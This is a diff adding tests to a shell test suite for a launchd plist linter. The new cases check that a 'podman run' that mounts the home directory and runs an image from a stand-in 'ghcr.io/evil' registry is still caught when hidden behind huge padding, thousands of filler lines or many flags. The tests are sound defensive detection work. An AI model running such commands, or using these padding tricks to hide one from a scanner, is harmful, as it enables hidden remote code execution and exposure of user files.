@@ -328,10 +328,45 @@ is "$(fnd launchd.lint launchd.wrapper-target-missing commands)" '["sudo darwin-
 rm -rf "$T/nix"
 lint "$NCP"
 unlike "$(codes launchd.lint)" 'wrapper-target-missing' "a tree without /nix/store says nothing of store paths"
+# A copied tree often leaves programs out: outside the store, a shell's
+# exec target is judged only when its directory is in the tree.
 user_plist com.example.case "$(clean_body com.example.case | sed 's|<key>ProgramArguments</key>.*</array>||')$(args /bin/sh -c "exec /Users/alice/bin/gone --x")"
 lint "$P"
-like "$(codes launchd.lint)" 'launchd.wrapper-target-missing' "a shell's exec target outside the store that is missing"
+unlike "$(codes launchd.lint)" 'wrapper-target-missing' "a copy without /Users/alice/bin: its program is not called missing"
+mkdir -p "$T/Users/alice/bin"
+lint "$P"
+like "$(codes launchd.lint)" 'launchd.wrapper-target-missing' "a shell's exec target outside the store that is missing (its directory is in the tree)"
 unlike "$(fnd launchd.lint launchd.wrapper-target-missing message)" 'garbage' "not called a store path"
+podman_plist "$(args /bin/sh -c "exec /opt/homebrew/bin/podman run --rm localhost/a")"
+is "$(codes launchd.lint)" '["launchd.plist", "launchd.raw-podman-run", "launchd.shell-launch"]' "--root copy without /opt/homebrew: no false wrapper-target-missing for podman"
+
+# --- padding and size limits cannot hide a podman run ---------------------------
+pad=$(printf '%8300s' '')
+podman_plist "$(args /bin/sh -c "${pad}exec podman run -v /Users/alice:/h ghcr.io/evil/x:latest")"
+is "$(codes launchd.lint)" '["launchd.home-mounted", "launchd.plist", "launchd.raw-podman-run", "launchd.registry-image", "launchd.shell-launch"]' "8300 spaces before the podman run in a -c string: all of it seen, no false /bin/sh missing"
+pad=$(printf '%270000s' '')
+podman_plist "$(args /bin/sh -c "${pad}exec podman run ghcr.io/evil/x:latest" --after)"
+# (the core cuts the 256 KiB evidence texts to 64 KiB, and says so too)
+is "$(codes launchd.lint)" '["core.result-truncated", "launchd.launch-cut", "launchd.plist", "launchd.shell-launch"]' "a -c string beyond the 256 KiB read: said, not dropped in silence"
+like "$(fnd launchd.lint launchd.launch-cut message)" 'ProgramArguments\[2\] cut short' "names the word cut short"
+is "$(fnd launchd.lint launchd.launch-cut severity)" warning "a warning: the lint does not pass"
+is "$(ev launchd.lint launchd.launch-cut arguments_truncated)" 2 "the -c string cut, the word after it kept in its place (empty)"
+is "$(status launchd.lint)" warning "status warning"
+{ printf '#!/bin/sh\n'; for i in $(seq 2100); do echo true; done; echo 'exec podman run ghcr.io/evil/x:latest'; } > "$T/Users/alice/bin/run-agent"
+podman_plist "$(args /Users/alice/bin/run-agent)"
+is "$(codes launchd.lint)" '["launchd.launch-cut", "launchd.plist", "launchd.raw-podman-run", "launchd.registry-image"]' "2100 true lines before exec podman run: the last exec kept and judged, the cut said"
+like "$(fnd launchd.lint launchd.launch-cut message)" '1024 simple commands dropped \(the oldest: at most 2048 are kept\)' "says what was dropped"
+is "$(ev launchd.lint launchd.raw-podman-run where)" "the script /Users/alice/bin/run-agent, line 2102" "the exec's own line"
+envs=$(for i in $(seq 140); do printf -- '-e V%s=1 ' "$i"; done)
+# shellcheck disable=SC2086 # one word per flag
+podman_plist "$(args /opt/homebrew/bin/podman run $envs -v /Users/alice:/h ghcr.io/evil/x:latest)"
+is "$(codes launchd.lint)" '["launchd.home-mounted", "launchd.plist", "launchd.raw-podman-run", "launchd.registry-image"]' "140 -e flags before the image: its mount and image still seen"
+is "$(ev launchd.lint launchd.registry-image image)" ghcr.io/evil/x:latest "the image named"
+head -c 300000 /dev/zero | tr '\0' '\n' | { printf '#!/bin/sh\n'; cat; echo 'exec podman run ghcr.io/evil/x:latest'; } > "$T/Users/alice/bin/run-agent"
+podman_plist "$(args /Users/alice/bin/run-agent)"
+is "$(codes launchd.lint)" '["launchd.launch-cut", "launchd.plist"]' "a script over 256 KiB outside the store: not followed, and said"
+like "$(fnd launchd.lint launchd.launch-cut message)" 'the script /Users/alice/bin/run-agent, larger than 256 KiB, not read' "names the script"
+is "$(ev launchd.lint launchd.launch-cut script_too_large)" /Users/alice/bin/run-agent "evidence: the script"
 
 # --- GNU-only syntax in a wrapper meant for macOS -------------------------------
 mkdir -p "$T/Users/alice/bin"
